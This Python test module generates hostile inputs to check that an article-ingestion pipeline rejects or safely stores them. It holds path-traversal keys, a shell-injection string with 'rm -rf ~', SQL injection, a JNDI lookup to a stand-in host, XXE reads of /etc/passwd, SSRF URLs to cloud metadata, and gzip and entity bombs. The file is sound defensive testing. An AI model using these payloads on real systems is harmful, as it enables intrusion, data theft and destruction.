"""Hostile inputs, made by code: a key, the bytes, and how each has to end.

An end is a reason to be parked for, or ``stored``. Files of many records end line by line: their ends are a set.
"""

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from tests.hostile.prose import ARTICLE, PAGE, TITLE, page

STORED = "stored"
MEGABYTE = 1_000_000


@dataclass(frozen=True)
class Hostile:
    """An object that somebody drops."""

    name: str  # unique; says what is wrong with it
    key: str
    data: bytes
    ends: frozenset[str]  # any of these is right


def corpus() -> Iterator[Hostile]:
    """Yield every hostile input, one at a time: together they are large."""
    for kind in (_keys, _encodings, _packed, _shapes, _markup, _characters, _json, _fields, _lines):
        yield from kind()


def _bomb(unit: bytes, megabytes: int) -> bytes:
    """Return so much of *unit*, packed, without ever holding it."""
    packer = zlib.compressobj(9, wbits=31)
    piece = unit * (MEGABYTE // len(unit))
    return b"".join([*(packer.compress(piece) for _ in range(megabytes)), packer.flush()])


def _made(name: str, data: bytes | str, *ends: str, key: str | None = None) -> Hostile:
    content = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
    return Hostile(name, key or name, content, frozenset(ends or {STORED}))


def _keys() -> Iterator[Hostile]:
    """Keys are any 1,024 bytes of UTF-8: paths, commands and new lines among them."""
    keys = {
        "climbing": "../../../../etc/passwd.txt",
        "climbing in the middle": "a/../../clean/2026/11/02/x/index.txt",
        "escaped climbing": "%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt",
        "absolute": "/etc/shadow.txt",
        "many slashes": "//////a.txt",
        "only dots": "./.././.txt",
        "backslashes": "..\\..\\windows\\win.txt",
        "new lines": 'a\n{"level":"CRITICAL","message":"forged"}\nb.txt',
        "carriage returns": "a\r\nSet-Cookie: x\r\n.txt",
        "null": "a\0b.txt",
        "tab and escape": "a\tb\x1b[2J\x1b[31mred.txt",
        "longest": "k" * 1_020 + ".txt",
        "longest in letters of two bytes": "ü" * 510 + ".txt",
        "deepest": "d/" * 500 + "x.txt",
        "right to left": "\u202etxt.exe.txt",
        "invisible": "\u200b\u200c\u200d\ufeff.txt",
        "shell": "$(touch x);`id`|& rm -rf ~.txt",
        "query": "' OR '1'='1'; DROP TABLE index; --.txt",
        "pattern": "(a+)+$.txt",
        "template": "${jndi:ldap://x.example/a}{{7*7}}<%= 7 %>.txt",
        "html": "<script>alert(1)</script>.txt",
        "like one of ours": "clean/2026/11/02/site/0123456789abcdef0123.txt",
        "like a key of the table": "article#0123#record.txt",
        "plus and percent": "a+b%20c%.txt",
        "emoji": "🗞️/📰.txt",
        "one dot": "a/./b.txt",
        "spaces": "   .txt",
        "site of spaces": "   /a.txt",
        "site of dots": "../a.txt",
        "site of percent": "%/a.txt",
        "capital suffix": "A.TXT",
    }
    for name, key in keys.items():
        yield _made(f"key: {name}", ARTICLE, key=key)
    for name, key in {
        "no suffix": "article",
        "empty suffix": "article.",
        "suffix alone twice": "article.txt.txt.zip",
        "gz alone": "article.gz",
        "gz of gz": "article.txt.gz.gz",
        "program": "article.exe",
        "suffix in the folder": "a.txt/b",
        "null after the suffix": "a.txt\0.png",
    }.items():
        yield _made(f"key: {name}", ARTICLE, "unknown_suffix", key=key)


def _encodings() -> Iterator[Hostile]:
    prose = "Der Bürgermeister von Überlingen fürchtet höhere Gebühren für die Fähre über den See. " * 8
    for encoding in ("utf-16", "utf-16-le", "utf-32", "cp1252", "iso-8859-15", "utf-7", "cp037", "mac-roman"):
        yield _made(f"encoding {encoding}.txt", prose.encode(encoding), STORED, "binary", "bad_encoding", "no_article")
        declared = f'<html><meta charset="{encoding}"><body>{page(prose)}</body></html>'
        yield _made(
            f"encoding {encoding}.html", declared.encode(encoding), STORED, "binary", "bad_encoding", "no_article"
        )
    for name, declared in {
        "unknown": "x-nothing",
        "a codec that is none": "zlib",
        "rot13": "rot13",
        "hex": "hex",
        "idna": "idna",
        "punycode": "punycode",
        "unicode escape": "unicode_escape",
        "undefined": "undefined",
        "very long": "x" * 5_000,
        "with quotes": "\"';",
    }.items():
        text = f'<html><head><meta charset="{declared}"></head><body>{page(prose)}</body></html>'
        yield _made(f"declared {name}.html", text.encode("latin-1"), STORED, "bad_encoding", "no_article")
    broken = prose.encode()
    yield _made(
        "cut in a letter.txt", broken[: broken.index("ü".encode()) + 1] * 4, "bad_encoding", STORED, "no_article"
    )
    yield _made("overlong.txt", ARTICLE.encode() + b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf", "bad_encoding", STORED)
    yield _made("surrogates.txt", ARTICLE + "\ud800\udfff\udc80", "bad_encoding", STORED)
    yield _made("mark alone.txt", b"\xef\xbb\xbf", "empty", "no_article")
    yield _made("mark of utf-16 alone.txt", b"\xff\xfe", "empty", "no_article", "bad_encoding")
    yield _made("half a letter of utf-16.txt", ARTICLE.encode("utf-16")[:-1], "bad_encoding")
    yield _made("marks within.txt", ("\ufeff" + ARTICLE) * 3, STORED)
    yield _made("all bytes.txt", bytes(range(256)) * 40, "binary")
    yield _made("nulls.txt", b"\0" * 100_000, "binary", "empty")
    yield _made("nulls in text.txt", ARTICLE.encode() + b"\0", "binary")
    yield _made("a picture.html", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50, "binary")


def _packed() -> Iterator[Hostile]:
    yield _made("bomb.txt.gz", _bomb(b"word ", 200), "too_large")
    yield _made("bomb of nulls.html.gz", _bomb(b"\0", 200), "too_large")
    twice = gzip.compress(_bomb(b"word ", 200), 9, mtime=0)
    yield _made("bomb in a bomb.txt.gz", twice, "binary", "bad_encoding")
    yield _made("bomb of one line.jsonl.gz", _bomb(b"x", 60), "too_large")
    yield _made("bomb of blank lines.jsonl.gz", _bomb(b"\n", 30), "too_large")
    yield _made("members.txt.gz", gzip.compress(ARTICLE[:200].encode()) + gzip.compress(ARTICLE[200:].encode()))
    many = b"".join(gzip.compress(part.encode(), mtime=0) for part in ARTICLE) * 5
    yield _made("a member for every letter.txt.gz", many, STORED)
    empty_members = gzip.compress(b"", mtime=0) * 20_000 + gzip.compress(ARTICLE.encode(), mtime=0)
    yield _made("empty members.txt.gz", empty_members, STORED)
    yield _made(
        "rubbish after the member.txt.gz", gzip.compress(ARTICLE.encode()) + b"rubbish", STORED, "truncated_gzip"
    )
    yield _made("nulls after the member.txt.gz", gzip.compress(ARTICLE.encode()) + bytes(1_000), STORED)
    whole = gzip.compress(ARTICLE.encode(), mtime=0)
    yield _made("cut.txt.gz", whole[: len(whole) // 2], "truncated_gzip")
    yield _made("head alone.txt.gz", whole[:10], "truncated_gzip")
    yield _made("wrong sum.txt.gz", whole[:-8] + struct.pack("<LL", 1, 2), "truncated_gzip")
    yield _made("not packed.txt.gz", ARTICLE, "truncated_gzip")
    yield _made("of zlib.txt.gz", zlib.compress(ARTICLE.encode()), "truncated_gzip")
    yield _made("an endless name.txt.gz", whole[:3] + b"\x08" + whole[4:10] + b"n" * MEGABYTE, "truncated_gzip")
    yield _made("a name that climbs.txt.gz", whole[:3] + b"\x08" + whole[4:10] + b"../../x\0" + whole[10:], STORED)
    yield _made("packed, not named so.txt", whole, "binary", "bad_encoding")
    folder = io.BytesIO()
    with zipfile.ZipFile(folder, "w") as file:
        file.writestr(zipfile.ZipInfo("../../a.txt", (2026, 1, 1, 0, 0, 0)), ARTICLE)
    yield _made("zip as gzip.txt.gz", folder.getvalue(), "truncated_gzip")
    yield _made("zip as text.txt", folder.getvalue(), "binary", "bad_encoding")


def _shapes() -> Iterator[Hostile]:
    yield _made("nothing.txt", b"", "empty")
    yield _made("nothing.jsonl", b"", "empty")
    yield _made("blanks.html", b" \t\r\n" * 1_000, "empty")
    yield _made("too large.html", PAGE + "x" * 11 * MEGABYTE, "too_large")
    yield _made("one word.txt", "x" * 9 * MEGABYTE, STORED, "no_article")
    yield _made("one line.txt", "word " * 1_800_000, STORED, "no_article")
    yield _made("lines of one letter.txt", "a\n" * 2 * MEGABYTE, STORED, "no_article")
    yield _made("nothing but new lines.txt", "\n" * 9 * MEGABYTE, "empty", "no_article")
    yield _made("carriage returns.txt", ARTICLE.replace("\n", "\r"), STORED)
    yield _made(
        "the same sentence.txt",
        "The ferry was late again on Monday, said the captain. " * 100_000,
        STORED,
        "no_article",
    )
    yield _made("numbers alone.txt", " ".join(str(n * 7919) for n in range(200_000)), STORED, "no_article")
    yield _made("punctuation.txt", "?!.,;:" * MEGABYTE, STORED, "no_article")
    yield _made("a paragraph a word.txt", "\n\n".join(f"word{n}" for n in range(100_000)), STORED, "no_article")
    yield _made("capitals.txt", " ".join(f"Name{n} Other{n}" for n in range(50_000)), STORED, "no_article")
    yield _made("backtracking.txt", ("a" * 30_000 + "! ") * 20, STORED, "no_article")
    yield _made("dashes.txt", "- " * MEGABYTE, STORED, "no_article")
    yield _made("addresses.txt", "a@" * MEGABYTE, STORED, "no_article")
    yield _made("dots of an address.txt", "x@" + "a." * MEGABYTE, STORED, "no_article")
    yield _made("digits of a card.txt", "4" * MEGABYTE, STORED, "no_article")
    yield _made("an account number.txt", "DE" + "00 " * 500_000, STORED, "no_article")
    yield _made("urls.txt", "https://a.example/?q=1 " * 200_000, STORED, "no_article")
    yield _made("one url.txt", "https://a.example/" + "a/" * MEGABYTE, STORED, "no_article")
    yield _made("quotes.txt", '"' * MEGABYTE, STORED, "no_article")


def _markup() -> Iterator[Hostile]:
    ends = (STORED, "no_article", "empty", "too_large")
    deep = 200_000
    shapes = {
        "deep div": "<div>" * deep + ARTICLE + "</div>" * deep,
        "deep and unclosed": "<p><b><i><u>" * deep + ARTICLE,
        "deep tables": "<table><tr><td>" * 50_000 + ARTICLE,
        "deep lists": "<ul><li>" * deep + ARTICLE,
        "deep quotes": "<blockquote>" * deep + ARTICLE,
        "closed only": "</div>" * MEGABYTE + ARTICLE,
        "a million paragraphs": "<p>word</p>" * 800_000,
        "a million empty elements": "<b></b>" * MEGABYTE + ARTICLE,
        "a million links": "<a href='/x'>x</a>" * 500_000,
        "attributes": "<p " + " ".join(f"a{n}=1" for n in range(500_000)) + ">" + ARTICLE + "</p>",
        "one attribute": "<p class='" + "x " * 4 * MEGABYTE + "'>" + ARTICLE + "</p>",
        "unclosed attribute": "<p class='" + ARTICLE * 100,
        "unclosed comment": "<!-- " + ARTICLE,
        "comments": "<!-- -- > -->" * 500_000 + page(ARTICLE),
        "comment of dashes": "<!--" + "-" * 4 * MEGABYTE + "-->" + page(ARTICLE),
        "unclosed script": "<script>" + ARTICLE,
        "script in script": "<script><!--<script>" * 100_000 + page(ARTICLE),
        "unclosed title": "<title>" + ARTICLE,
        "unclosed textarea": "<textarea>" + ARTICLE,
        "titles": "<title>x</title>" * 300_000 + page(ARTICLE),
        "metas": "<meta property='og:title' content='x'>" * 200_000 + page(ARTICLE),
        "headlines": "<h1>x</h1>" * 300_000 + page(ARTICLE),
        "open brackets": "<" * 5 * MEGABYTE,
        "close brackets": ">" * 5 * MEGABYTE,
        "entities": "&amp;" * MEGABYTE,
        "unclosed entity": "&" * 5 * MEGABYTE,
        "numbers of letters": "&#x110000;&#0;&#xD800;&#99999999999;" * 50_000 + page(ARTICLE),
        "laughs": '<!DOCTYPE lolz [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + f"]><html>{page('&j; ' + ARTICLE)}</html>",
        "a file as entity": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><html>' + page("&f;" + ARTICLE),
        "an address as entity": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><html>' + page(ARTICLE),
        "included": page('<iframe src="http://169.254.169.254/"></iframe><img src="file:///etc/passwd">' + ARTICLE),
        "refreshed": '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">' + page(ARTICLE),
        "based": '<base href="javascript:alert(1)">' + page(ARTICLE),
        "scripts of json": "<script type='application/ld+json'>" + "[" * 200_000 + "</script>" + page(ARTICLE),
        "large json": '<script type="application/ld+json">{"a":' + "9" * 200_000 + "}</script>" + page(ARTICLE),
        "wrong json": '<script type="application/ld+json">{"headline": {"@value": [[]]}, "url": 5}</script>'
        + page(ARTICLE),
        "null in markup": "<p>\0" + ARTICLE,
        "xml": '<?xml version="1.0"?><rss><channel><item><description>'
        + ARTICLE
        + "</description></item></channel></rss>",
        "templates": "<template>" * 50_000 + page(ARTICLE),
        "svg and math": "<svg><math><mtext><foreignObject>" * 20_000 + page(ARTICLE),
        "forms in forms": "<form><input>" * 100_000 + page(ARTICLE),
        "frames": "<frameset><frame src=x>" * 50_000 + page(ARTICLE),
        "formatting across": "<b><p><i></b></p>" * 20_000 + ARTICLE,
        "nested formatting": "<a><b><font color=x>" * 20_000 + ARTICLE,
        "select": "<select><option>" * 100_000 + ARTICLE,
        "plaintext": "<plaintext>" + page(ARTICLE),
        "hidden": page(f'<div style="display:none">{"casino " * 50_000}</div>' + ARTICLE),
    }
    for name, data in shapes.items():
        more = ("binary",) if "null" in name else ()
        yield _made(f"markup {name}.html", data, *ends, *more)


def _characters() -> Iterator[Hostile]:
    shapes = {
        "bidi": "\u202e" + ARTICLE + "\u202c\u2066\u2067\u2069",
        "stacked accents": "".join(letter + "\u0301" * 200 for letter in ARTICLE),
        "invisible between letters": "\u200b".join(ARTICLE),
        "soft hyphens": "\xad".join(ARTICLE),
        "tags": ARTICLE + "".join(chr(0xE0000 + n) for n in range(128)) * 500,
        "private": ARTICLE + "\ue000\U000f0000\U0010ffff" * 500,
        "noncharacters": ARTICLE + "\ufdd0\ufffe\uffff" * 500,
        "wide": "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in ARTICLE),
        "mathematical": "".join(chr(0x1D400 + ord(x) - 65) if "A" <= x <= "Z" else x for x in ARTICLE.upper()),
        "look-alikes": ARTICLE.replace("a", "\u0430").replace("e", "\u0435").replace("o", "\u043e"),
        "one letter long": "\ufdfa" * 100_000,
        "sharp s": "ß" * 300_000,
        "dotted i": "\u0130 " * 300_000,
        "final sigma": "Σ " * 300_000,
        "control": ARTICLE + "\x1b[2J\x07\x08" * 20,
        "line separators": ARTICLE.replace("\n", "\u2028").replace(" ", "\u2029"),
        "next lines": ARTICLE.replace("\n", "\x85"),
        "emoji joined": "👩‍👩‍👧‍👦" * 100_000,
        "flags": "🇩🇪" * 100_000,
        "hangul": "각" * 300_000,
        "thai without spaces": "ภาษาไทยไม่มีช่องว่าง" * 20_000,
        "chinese": "法国总统周一表示将与智利签署航运协议。" * 5_000,
        "arabic": "وقعت النرويج وتشيلي اتفاقا أوسع للملاحة البحرية يوم الاثنين في أوسلو. " * 500,
        "replacement": "\ufffd" * 100_000 + ARTICLE,
    }
    for name, data in shapes.items():
        yield _made(f"characters {name}.txt", data, STORED, "no_article", "binary", "bad_encoding")
        yield _made(f"characters {name}.html", page(data), STORED, "no_article", "binary", "bad_encoding")


def _json() -> Iterator[Hostile]:
    """JSON that is none, or that is more than one thing."""
    shapes: dict[str, tuple[str | bytes, tuple[str, ...]]] = {
        "deep lists": ("[" * 500_000, ("invalid_json",)),
        "deep lists closed": ("[" * 100_000 + "]" * 100_000, ("invalid_json", "invalid_record")),
        "deep objects": ('{"a":' * 200_000, ("invalid_json",)),
        "deep beside a text": (
            '{"text": ' + json.dumps(ARTICLE) + ', "a": ' + "[" * 50_000 + "]" * 50_000 + "}",
            ("invalid_json", STORED),
        ),
        "a long number": ('{"id": ' + "9" * 100_000 + "}", ("invalid_json", "missing_text")),
        "a long number beside a text": (
            '{"text": ' + json.dumps(ARTICLE) + ', "id": ' + "9" * 5_000 + "}",
            ("invalid_json", STORED),
        ),
        "NaN": ('{"text": NaN}', ("invalid_record", "invalid_json")),
        "infinity as id": ('{"id": Infinity, "text": "x"}', ("invalid_record", "invalid_json")),
        "a huge exponent": ('{"id": 1e999999, "text": "x"}', ("invalid_record", "invalid_json")),
        "keys twice": ('{"text": "short", "text": ' + json.dumps(ARTICLE) + "}", (STORED,)),
        "keys twice of other kinds": ('{"text": ' + json.dumps(ARTICLE) + ', "text": 5}', ("invalid_record",)),
        "many keys": (json.dumps({f"k{n}": n for n in range(300_000)} | {"text": ARTICLE}), (STORED,)),
        "colliding keys": (json.dumps({str(n * (2**61 - 1)): n for n in range(100_000)}), ("missing_text",)),
        "a lone surrogate": ('{"text": ' + json.dumps(ARTICLE)[:-1] + '\\ud800"}', (STORED,)),
        "surrogates as title": ('{"title": "\\udfff\\ud800", "text": ' + json.dumps(ARTICLE) + "}", (STORED,)),
        "escaped nulls": ('{"text": ' + json.dumps("\0" + ARTICLE) + "}", (STORED, "binary", "no_article")),
        "single quotes": ("{'text': 'x'}", ("invalid_json",)),
        "a comma at the end": ('{"text": "x",}', ("invalid_json",)),
        "comments": ('{"text": "x"} // comment', ("invalid_json",)),
        "two records": ('{"text": "x"}{"text": "y"}', ("invalid_json",)),
        "a string": (json.dumps(ARTICLE), ("invalid_record",)),
        "null": ("null", ("invalid_record",)),
        "a list": (json.dumps([{"text": ARTICLE}]), ("invalid_record",)),
        "nothing": ("{}", ("missing_text",)),
        "utf-16": (json.dumps({"text": ARTICLE}).encode("utf-16"), ("binary", "bad_encoding")),
        "latin-1": ('{"text": "Überlingen"}'.encode("latin-1"), ("bad_encoding",)),
        "a mark": (b"\xef\xbb\xbf" + json.dumps({"text": ARTICLE}).encode(), (STORED,)),
        "prototype": ('{"__proto__": {"x": 1}, "constructor": 1, "text": ' + json.dumps(ARTICLE) + "}", (STORED,)),
        "class": ('{"py/object": "os.system", "__class__": "x", "text": ' + json.dumps(ARTICLE) + "}", (STORED,)),
    }
    for name, (data, ends) in shapes.items():
        yield _made(f"json {name}.json", data, *ends)


def _fields() -> Iterator[Hostile]:
    """Records whose fields are not what they are named for."""
    fields: dict[str, dict[str, Any]] = {
        "url": {
            f"url {number}": url
            for number, url in enumerate(
                [
                    "javascript:alert(1)",
                    "file:///etc/passwd",
                    "http://169.254.169.254/latest/meta-data/",
                    "http://127.0.0.1:4566/",
                    "http://[::1]/",
                    "http://[::1",
                    "gopher://x.example/_",
                    "data:text/html,x",
                    "ftp://u:p@x.example/",
                    "http://u:p@x.example:99999/",
                    "http://x.example:-1/",
                    "//x.example",
                    "http://",
                    "http:///path",
                    "http://.",
                    "http://..example/",
                    "https://xn--a.example/",
                    "https://" + "a" * 70_000 + ".example/",
                    "https://a.example/" + "x/" * 100_000,
                    "https://a.example/?" + "&".join(f"k{n}=v" for n in range(100_000)),
                    "https://a.example/%zz%%00%ff",
                    "https://a.example/\n\r\nHost: b.example",
                    "https://\u202eexample.com/",
                    "https://ex\u00adample.com/",
                    "https://①.example/",
                    "https://a.example\\@b.example/",
                    "https://" + "a." * 5_000 + "example/",
                    "https://1.2.3.4.5/",
                    "https://0x7f.1/",
                    "s3://bucket/key",
                    "arn:aws:s3:::x",
                    "😀",
                    " ",
                ]
            )
        },
        "published_at": {
            f"date {number}": date
            for number, date in enumerate(
                [
                    "0000-00-00",
                    "0000-01-01T00:00:00Z",
                    "0001-01-01T00:00:00+14:00",
                    "9999-12-31T23:59:59-14:00",
                    "99999-01-01",
                    "2026-02-30",
                    "2026-13-01",
                    "2026-11-02T25:61:61Z",
                    "2026-11-02T10:00:00+99:99",
                    "-2026-11-02",
                    "1e10",
                    "9" * 10_000,
                    "now",
                    "yesterday",
                    "Mon, 32 Foo 20261 99:99:99 XYZ",
                    "٢٠٢٦-١١-٠٢",
                    "\u202e2026-11-02",
                    "2026-11-02" * 10_000,
                    "1970-01-01T00:00:00.000000000000000000001Z",
                ]
            )
        },
        "site": {
            "site climbing": "../../x",
            "site long": "s" * 100_000,
            "site of nulls": "\0",
            "site of lines": "a\nb",
        },
        "title": {
            "title long": "T" * MEGABYTE,
            "title of markup": "<h1 onload=x>" * 10_000,
            "title of lines": '\n{"level":"ERROR"}',
        },
        "language": {"language long": "x" * 100_000, "language odd": "../en", "language of nulls": "\0"},
        "id": {"id long": "i" * 100_000, "id of lines": "a\nb#c", "id of zero": 0, "id negative": -1},
    }
    for field, values in fields.items():
        for name, value in values.items():
            yield _made(f"record {name}.json", json.dumps({"text": ARTICLE, field: value}), STORED)
    for field in ("url", "published_at", "site", "title", "language", "id"):
        for value in ([], {}, True, 1.5):
            name = f"record {field} {type(value).__name__}.json"
            yield _made(name, json.dumps({"text": ARTICLE, field: value}), "invalid_record")
    yield _made("record both empty.json", '{"text": "", "html": " "}', "missing_text")
    yield _made("record html deep.json", json.dumps({"html": "<div>" * 100_000 + ARTICLE}), STORED, "no_article")


def _lines() -> Iterator[Hostile]:
    good = json.dumps({"id": "good", "title": TITLE, "text": ARTICLE})
    bad = ["{", "[]", "null", "\0", '{"text": 1}', "[" * 100_000, "\ufeff", "x" * 100_000, '{"text": "\\ud800"}']
    yield _made(
        "lines bad and good.jsonl",
        "\n".join([*bad, good]),
        STORED, "invalid_json", "invalid_record", "binary", "empty", "no_article", "missing_text",
    )  # fmt: skip
    yield _made("lines blank.jsonl", "\n" * 90_000 + good, STORED)
    yield _made("lines of carriage returns.jsonl", good.replace("\n", " ") + "\r\n\r\n\r", STORED, "invalid_json")
    yield _made("line unclosed.jsonl", good + "\n" + good[:-5], STORED, "invalid_json")
    yield _made("line too long.jsonl", '{"text": "' + "x" * 9_900_000 + '"}', STORED, "no_article", "too_large")
    yield _made("lines of bad bytes.jsonl", good.encode() + b"\n\xff\xfe\n" + b"\xc3\x28\n", STORED, "bad_encoding")
    yield _made(
        "lines cut.jsonl.gz",
        gzip.compress((good + "\n").encode() * 50, mtime=0)[:-12],
        STORED,
        "truncated_gzip",
        "known",
    )
    yield _made("lines the same id.jsonl", "\n".join([good] * 30), STORED, "known")
